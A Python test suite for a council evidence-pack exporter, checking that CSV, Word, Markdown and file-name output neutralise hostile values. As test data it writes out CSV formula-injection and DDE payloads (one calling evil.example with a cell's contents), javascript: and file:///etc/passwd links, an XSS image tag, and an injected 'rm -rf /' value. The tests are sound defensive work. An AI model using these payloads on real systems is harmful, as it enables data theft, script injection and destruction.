"""The evidence-pack exporters on packs built by hand, with the hostile values a catalogue or a request can carry:
formula-like CSV cells, link targets that must not become links, and text that would break Markdown."""

from __future__ import annotations

import csv
import io
import re

import docx
import pytest
from docx.document import Document as DocxDocument
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from api import exports
from api.schemas import CitationOut, EvidenceGroup, EvidenceItem, EvidenceResponse, PrincipleSummary

PRINCIPLE = PrincipleSummary(
    id=5,
    name="Maximising social value",
    description="Social value in all we do.",
    passage_count=3,
    document_count=2,
    documents_met=2,
)
PDF_URL = "https://example.org/reports/energy.pdf#page=4"


def _pack(
    title: str = "Community Energy",
    council: str | None = "Kirklees Council",
    text: str = "Residents own the panels.",
    url: str = PDF_URL,
    label: str = "Community Energy (Kirklees Council, 2022), p. 4",
    score: float = 0.8125,
    query: str | None = None,
    filters: dict | None = None,
) -> EvidenceResponse:
    citation = CitationOut(
        document_id="energy",
        title=title,
        lead_council=council,
        year=2022,
        type="report",
        page=4,
        page_end=4,
        url=url,
        label=label,
    )
    item = EvidenceItem(passage_id="energy:0003:abc", text=text, score=score, citation=citation)
    group = EvidenceGroup(document_id="energy", title=title, lead_council=council, year=2022, passages=[item])
    return EvidenceResponse(principle=PRINCIPLE, query=query, filters=filters or {"principle": 5}, groups=[group])


def _records(pack: EvidenceResponse) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(exports.to_csv(pack), newline="")))
    assert rows[0] == exports.CSV_COLUMNS
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _hyperlinks(content: bytes) -> tuple[DocxDocument, set[str]]:
    document = docx.Document(io.BytesIO(content))
    rels = document.part.rels.values()
    return document, {rel.target_ref for rel in rels if rel.reltype == RT.HYPERLINK}


# ---- CSV --------------------------------------------------------------------------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_text_cells_that_could_run_as_formulas_get_a_leading_quote(start: str) -> None:
    hostile = f'{start}HYPERLINK("https://evil.example/?x="&A1,"click")'
    pack = _pack(
        title=hostile,
        council=hostile,
        text=f"{start}cmd|' /C calc'!A0",
        url=hostile,
        label=hostile,
        query=hostile,
        filters={"principle": 5, "council": hostile, "document_id": hostile, "type": hostile},
    )
    [record] = _records(pack)
    for column in ("title", "lead_council", "citation", "url", "topic", "filter_council", "filter_type"):
        assert record[column] == "'" + hostile, column
    assert record["filter_document"] == "'" + hostile
    if start.isspace():  # passage text is written with its white space collapsed: the tab or CR is gone
        assert record["text"] == "cmd|' /C calc'!A0"
    else:
        assert record["text"] == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_text_cell_is_checked_not_only_the_free_text(start: str) -> None:
    """Document and passage ids come from file names; a catalogue can name a council anything."""
    pack = _pack(council=f"{start}1+1")
    pack.groups[0].document_id = f"{start}energy"
    pack.groups[0].passages[0].passage_id = f"{start}energy:0003"
    [record] = _records(pack)
    assert record["lead_council"] == f"'{start}1+1"
    assert record["document_id"] == f"'{start}energy"
    assert record["passage_id"] == f"'{start}energy:0003"


def test_csv_numbers_we_write_stay_numbers_and_ordinary_text_is_untouched() -> None:
    pack = _pack(score=-0.25, title="Energy - the next steps", text="A 'quoted' start, = later")
    [record] = _records(pack)
    assert record["score"] == "-0.25", "a negative score is a number, not text to neutralise"
    assert (record["year"], record["page"], record["principle_id"]) == ("2022", "4", "5")
    assert record["title"] == "Energy - the next steps"
    assert record["text"] == "A 'quoted' start, = later"
    assert record["url"] == PDF_URL


def test_csv_filter_columns_are_empty_when_nothing_is_filtered_and_filled_when_something_is() -> None:
    [plain] = _records(_pack())
    assert [plain[c] for c in exports.CSV_COLUMNS[12:]] == [""] * 6
    filters = {"principle": 5, "council": "Kirklees", "year_from": 2020, "year_to": 2024, "type": "report"}
    [filtered] = _records(_pack(query="solar roofs", filters=filters | {"document_id": "energy"}))
    assert [filtered[c] for c in exports.CSV_COLUMNS[12:]] == [
        "solar roofs",
        "Kirklees",
        "2020",
        "2024",
        "report",
        "energy",
    ]


# ---- Word -------------------------------------------------------------------------------------------------------


def test_word_citation_is_a_hyperlink_to_the_cited_page() -> None:
    document, targets = _hyperlinks(exports.to_docx(_pack()))
    assert targets == {PDF_URL}
    [paragraph] = [p for p in document.paragraphs if p.hyperlinks]
    assert paragraph.text == f"Community Energy (Kirklees Council, 2022), p. 4 — {PDF_URL}"
    assert [link.url for link in paragraph.hyperlinks] == [PDF_URL, PDF_URL]
    assert {run.style.name for link in paragraph.hyperlinks for run in link.runs if run.style} == {"Hyperlink"}
    style = document.styles["Hyperlink"]
    assert style.font.underline is True and str(style.font.color.rgb) == "0563C1"


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        '=HYPERLINK("https://evil.example","open")',
        "file:///etc/passwd",
        "//evil.example/report.pdf",
        "/documents/energy/file#page=4",  # relative: Word has no page to resolve it against
        "https://example.org/a report.pdf",
        "https:///no-host",
        "",
    ],
)
def test_word_writes_anything_but_an_http_url_as_plain_text(url: str) -> None:
    document, targets = _hyperlinks(exports.to_docx(_pack(url=url)))
    assert targets == set()
    assert not any(p.hyperlinks for p in document.paragraphs)
    assert f"Community Energy (Kirklees Council, 2022), p. 4 — {url}" in [p.text for p in document.paragraphs]


def test_word_names_the_filters_under_the_title() -> None:
    filters = {"principle": 5, "council": "Kirklees", "year_to": 2024, "type": "report", "document_id": "energy"}
    document = docx.Document(io.BytesIO(exports.to_docx(_pack(query="solar", filters=filters))))
    texts = [p.text for p in document.paragraphs[:4]]
    assert texts == [
        "Evidence: Maximising social value",
        "Topic: solar",
        "Filters: council Kirklees · to 2024 · type report · document energy",
        "Social value in all we do.",
    ]


# ---- Markdown ---------------------------------------------------------------------------------------------------


def test_markdown_links_http_and_the_apis_own_paths_only() -> None:
    assert "— [Community Energy (Kirklees Council, 2022), p. 4](https://example.org/reports/energy.pdf#page=4)" in (
        exports.to_markdown(_pack())
    )
    own = exports.to_markdown(_pack(url="/documents/energy/file#page=4"))
    assert "](/documents/energy/file#page=4)" in own
    for url in ("javascript:alert(1)", '=HYPERLINK("https://evil.example")', "data:text/html,<b>x</b>"):
        text = exports.to_markdown(_pack(url=url))
        assert "](" not in text, url
        assert "Community Energy (Kirklees Council, 2022), p. 4 · " in text


def test_markdown_escapes_what_would_break_a_link_or_inject_markup() -> None:
    text = exports.to_markdown(
        _pack(
            title="Energy <img src=x onerror=alert(1)>",
            label="Energy [draft] *final* `v2` (Kirklees_Council), p. 4",
            url="https://example.org/energy_(final).pdf#page=4",
            query="solar ](javascript:alert(1))",
        )
    )
    assert (
        r"— [Energy \[draft\] \*final\* \`v2\` (Kirklees\_Council), p. 4](https://example.org/energy_\(final\).pdf#page=4)"
        in text
    )
    assert r"## Energy \<img src=x onerror=alert(1)\> (Kirklees Council, 2022)" in text
    assert r"Topic: solar \](javascript:alert(1))" in text
    assert re.search(r"(?<!\\)<", text) is None, "no unescaped angle bracket to open an HTML tag"


def test_markdown_names_the_filters() -> None:
    filters = {"principle": 5, "council": "Kirklees", "year_from": 2020, "year_to": 2024}
    text = exports.to_markdown(_pack(filters=filters))
    assert text.startswith(
        "# Evidence: Maximising social value (principle 5)\n\nFilters: council Kirklees · years 2020–2024\n\n"
    )


# ---- file names -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "filters", "name"),
    [
        (None, {}, "ccin-evidence-5-maximising-social-value.csv"),
        ("Solar roofs!", {}, "ccin-evidence-5-maximising-social-value-solar-roofs.csv"),
        (
            None,
            {"council": "Kirklees", "year_from": 2020, "type": "report", "document_id": "energy"},
            "ccin-evidence-5-maximising-social-value-council-kirklees-from-2020-type-report-document-energy.csv",
        ),
        (
            None,
            {"year_to": 2024, "council": '"; rm -rf /'},
            "ccin-evidence-5-maximising-social-value-council-rm-rf-to-2024.csv",
        ),
    ],
)
def test_the_file_name_carries_the_topic_and_filters_safely(query: str | None, filters: dict, name: str) -> None:
    assert exports.filename(_pack(query=query, filters={"principle": 5, **filters}), "csv") == name
